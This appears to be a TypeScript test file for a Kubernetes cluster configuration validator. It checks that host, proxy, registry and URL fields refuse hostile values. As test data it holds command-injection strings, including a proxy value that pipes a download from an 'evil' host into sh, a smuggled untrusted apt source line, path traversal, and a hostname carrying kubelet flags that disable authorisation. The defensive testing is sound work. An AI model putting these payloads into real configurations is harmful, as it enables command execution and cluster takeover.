import { expect } from 'chai';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { applyDefaults } from '../defaults.js';
import type { ConfigError } from '../errors.js';
import { loadCluster } from '../load.js';
import { baseCluster } from '../testing/base-cluster.js';
import type { KubeOneCluster } from '../types.js';
import { validate } from './index.js';
import { httpUrlProblem, isHostname, isRegistryKey, noProxyProblem, proxyUrlProblem } from './shapes.js';

/** The classes of hostile input the issue names; every one must be refused where it reaches a host. */
const HOSTILE = ['$(id)', '`id`', 'a;id', 'a\nid', 'a"b', "a'b", 'a b', '../../etc/evil.d', 'a\tb', 'a\\b'];

const cp = (c: KubeOneCluster) => c.controlPlane!.hosts![0]!;

/** Each field that can reach a host: how to set it, and the path its issue must name. */
/** Characters RFC 3986 allows in URLs: legitimately accepted there, and quoted by every script (scripts.test.ts runs them). */
const URL_LEGAL = ['$(id)', 'a;id', "a'b", '../../etc/evil.d'];

const FIELDS: { path: string; set: (c: KubeOneCluster, v: string) => void; embed?: (v: string) => string; accepts?: string[] }[] = [
  { path: 'controlPlane.hosts[0].hostname', set: (c, v) => (cp(c).hostname = v), embed: (v) => `node1${v}` },
  { path: 'controlPlane.hosts[0].publicAddress', set: (c, v) => (cp(c).publicAddress = v), embed: (v) => `192.0.2.10${v}` },
  { path: 'controlPlane.hosts[0].privateAddress', set: (c, v) => (cp(c).privateAddress = v), embed: (v) => `10.0.0.10${v}` },
  { path: 'controlPlane.hosts[0].bastion', set: (c, v) => (cp(c).bastion = v), embed: (v) => `bastion${v}` },
  { path: 'controlPlane.hosts[0].sshUsername', set: (c, v) => (cp(c).sshUsername = v), embed: (v) => `ubuntu${v}` },
  { path: 'controlPlane.hosts[0].ipv6Addresses[0]', set: (c, v) => (cp(c).ipv6Addresses = [v]), embed: (v) => `fd00::1${v}` },
  { path: 'apiEndpoint.host', set: (c, v) => (c.apiEndpoint = { host: v }), embed: (v) => `api.example.com${v}` },
  { path: 'apiEndpoint.alternativeNames[0]', set: (c, v) => (c.apiEndpoint = { alternativeNames: [v] }), embed: (v) => `lb${v}` },
  { path: 'proxy.http', set: (c, v) => (c.proxy = { http: v }), embed: (v) => `http://proxy:3128/${v}` },
  { path: 'proxy.https', set: (c, v) => (c.proxy = { https: v }), embed: (v) => `http://u${v}:p@proxy:3128` },
  { path: 'proxy.noProxy', set: (c, v) => (c.proxy = { http: 'http://proxy:3128', noProxy: v }), embed: (v) => `.corp,${v}` },
  { path: 'containerRuntime.containerd.registries', set: (c, v) => (c.containerRuntime = { containerd: { registries: { [v]: { mirrors: ['m.corp'] } } } }), embed: (v) => `docker.io/${v}` },
  { path: 'containerRuntime.containerd.registries["docker.io"].mirrors[0]', set: (c, v) => (c.containerRuntime = { containerd: { registries: { 'docker.io': { mirrors: [v] } } } }), embed: (v) => `https://mirror.corp/${v}`, accepts: URL_LEGAL },
  { path: 'containerRuntime.containerd.sandboxImage', set: (c, v) => (c.containerRuntime = { containerd: { sandboxImage: v } }), embed: (v) => `registry.k8s.io/pause:3.10${v}` },
  { path: 'registryConfiguration.overwriteRegistry', set: (c, v) => (c.registryConfiguration = { overwriteRegistry: v }), embed: (v) => `registry.corp/${v}` },
  { path: 'kubernetesBinaries.packageRepository.url', set: (c, v) => (c.kubernetesBinaries = { packageRepository: { url: v } }), embed: (v) => `https://pkgs.corp/v{minor}/deb/${v}`, accepts: URL_LEGAL },
  { path: 'kubernetesBinaries.bundle.url', set: (c, v) => (c.kubernetesBinaries = { bundle: { url: v } }), embed: (v) => `https://m.corp/k8s/${v}/k8s.tar.gz`, accepts: URL_LEGAL },
  { path: 'kubernetesBinaries.bundle.path', set: (c, v) => (c.kubernetesBinaries = { bundle: { path: v } }), embed: (v) => `./bundles/k8s-${v}.tar.gz`, accepts: ['../../etc/evil.d'] /* a local path: the file name on the hosts stays plain */ },
  { path: 'features.staticAuditLog.config.logPath', set: (c, v) => (c.features = { staticAuditLog: { enable: true, config: { policyFilePath: 'p.yaml', logPath: v } } }), embed: (v) => `/var/log/${v}/audit.log` },
  { path: 'clusterNetwork.serviceDomainName', set: (c, v) => (c.clusterNetwork = { serviceDomainName: v }), embed: (v) => `cluster.local${v}` },
  { path: 'addons.addons[0].name', set: (c, v) => (c.addons = { addons: [{ name: v }] }), embed: (v) => `my-addon${v}` },
];

function issuesFor(mutate: (c: KubeOneCluster) => void) {
  const c = baseCluster();
  mutate(c);
  return validate(applyDefaults(c));
}

describe('validation shapes: hostile values are refused with their field path', () => {
  for (const field of FIELDS) {
    it(`${field.path}`, () => {
      for (const hostile of HOSTILE) {
        const value = field.embed ? field.embed(hostile) : hostile;
        const issues = issuesFor((c) => field.set(c, value));
        const hit = issues.find((i) => i.path === field.path || i.path.startsWith(`${field.path}[`));
        if (field.accepts?.includes(hostile)) {
          expect(hit, `${JSON.stringify(value)} is a legal ${field.path}`).to.equal(undefined);
          continue;
        }
        expect(hit, `${JSON.stringify(value)} in ${field.path} was accepted; issues: ${JSON.stringify(issues)}`).to.not.equal(undefined);
      }
    });
  }

  it('accepts the legitimate forms', () => {
    const issues = issuesFor((c) => {
      cp(c).hostname = 'cp-1.example.com';
      cp(c).publicAddress = '203.0.113.5';
      cp(c).privateAddress = 'cp-1.internal';
      cp(c).bastion = '2001:db8::1';
      cp(c).sshUsername = 'ubuntu';
      c.apiEndpoint = { host: 'api.example.com', alternativeNames: ['*.example.com', '198.51.100.1'] };
      c.proxy = { http: 'http://user:p%40ss%20w@proxy.corp:3128', https: 'https://[2001:db8::5]:3129/', noProxy: '.corp,*.svc,10.0.0.0/8,fd00::/8,host:8080,*' };
      c.containerRuntime = { containerd: { registries: { '*': { mirrors: ['mirror.corp:5000'] }, 'docker.io': { mirrors: ['https://mirror.corp/v2/docker'] }, 'registry.corp:5000': {}, 'gitlab.com/org1': {} }, sandboxImage: 'registry.corp/pause@sha256:abc' } };
      c.registryConfiguration = { overwriteRegistry: 'registry.corp:5000/k8s' };
      c.kubernetesBinaries = { bundle: { url: 'https://m.corp/k8s/v{version}/kubernetes-node-linux-{arch}.tar.gz?sig=a%2Fb&x=1' } };
    });
    expect(issues).to.deep.equal([]);
  });

  it('checks URLs on the raw string: a newline new URL() would strip is refused', () => {
    expect(new URL('https://pkgs.corp/deb/\n').href).to.equal('https://pkgs.corp/deb/');
    expect(httpUrlProblem('https://pkgs.corp/deb/\ndeb [trusted=yes] http://evil/ /')).to.match(/whitespace or control/);
    expect(httpUrlProblem('https://pkgs.corp/deb/\t')).to.match(/whitespace or control/);
    expect(httpUrlProblem('https://pkgs.corp/a"b')).to.match(/cannot hold/);
    expect(httpUrlProblem('ftp://pkgs.corp/')).to.match(/http/);
    expect(httpUrlProblem('https://pkgs.corp/v{minor}/deb/', ['minor'])).to.equal(null);
  });

  it('shapes: host names, registry keys, proxies, noProxy', () => {
    expect(isHostname('node1 --anonymous-auth=true')).to.equal(false);
    expect(isHostname('a'.repeat(64))).to.equal(false);
    expect(isHostname('Node-1.example')).to.equal(true);
    expect(isRegistryKey('../../../etc/evil.d')).to.equal(false);
    expect(isRegistryKey('docker.io/..')).to.equal(false);
    expect(isRegistryKey('registry.corp:5000/team/sub')).to.equal(true);
    expect(proxyUrlProblem('http://p:3128;touch${IFS}/x;')).to.match(/\$, `, ;/);
    expect(proxyUrlProblem('http://$(id)@p:3128')).to.match(/\$, `, ;/);
    expect(proxyUrlProblem('socks5://p:1080')).to.match(/http\(s\)/);
    expect(proxyUrlProblem('http://u:p%3Bw@p:3128')).to.equal(null);
    expect(noProxyProblem('.corp, .local')).to.match(/" \.local"/);
    expect(noProxyProblem('a,,b')).to.equal(null);
  });

  it('names file, line and column of a refused value and exits 15 (loadCluster)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'shapes-'));
    try {
      const file = join(dir, 'kubeone.yaml');
      writeFileSync(
        file,
        [
          'apiVersion: kubeone.k8c.io/v1beta2',
          'kind: KubeOneCluster',
          'name: demo',
          'versions: {kubernetes: 1.35.1}',
          'cloudProvider: {none: {}}',
          'controlPlane:',
          '  hosts:',
          '  - publicAddress: 192.0.2.10',
          '    privateAddress: 10.0.0.10',
          '    sshPrivateKeyFile: /k/id',
          '    hostname: "node1 --anonymous-auth=true --authorization-mode=AlwaysAllow"',
          'proxy:',
          '  http: "http://proxy:3128;curl${IFS}evil|sh;"',
          '',
        ].join('\n'),
      );
      const err = (await loadCluster({ manifestPath: file, env: {} }).then(() => null, (e: unknown) => e)) as ConfigError;
      expect(err).to.not.equal(null);
      expect(err.exitCode).to.equal(15);
      const lines = err.message.split('\n');
      expect(lines.find((l) => l.includes('controlPlane.hosts[0].hostname'))).to.match(/kubeone\.yaml:11:5: controlPlane\.hosts\[0\]\.hostname: .* is not an RFC 1123 host name/);
      expect(lines.filter((l) => l.includes('proxy.http')).some((l) => /kubeone\.yaml:13:3: proxy\.http: must not contain \$, `, ;/.test(l)), lines.join('\n')).to.equal(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('an unknown addon name under addons.addons is a configuration error (exit 15) at its line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'shapes-'));
    try {
      const file = join(dir, 'kubeone.yaml');
      writeFileSync(file, 'apiVersion: kubeone.k8c.io/v1beta2\nkind: KubeOneCluster\nname: demo\nversions: {kubernetes: 1.35.1}\ncloudProvider: {none: {}}\ncontrolPlane:\n  hosts:\n  - {publicAddress: 192.0.2.10, sshPrivateKeyFile: /k/id}\naddons:\n  enable: true\n  addons:\n  - name: metrics-server\n  - name: no-such-addon\n');
      const err = (await loadCluster({ manifestPath: file, env: {} }).then(() => null, (e: unknown) => e)) as ConfigError;
      expect(err?.exitCode).to.equal(15);
      expect(err.message).to.contain('kubeone.yaml:13:5: addons.addons[1].name: no embedded addon and no directory in addons.path named "no-such-addon"');
      expect(err.message).to.not.contain('metrics-server');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
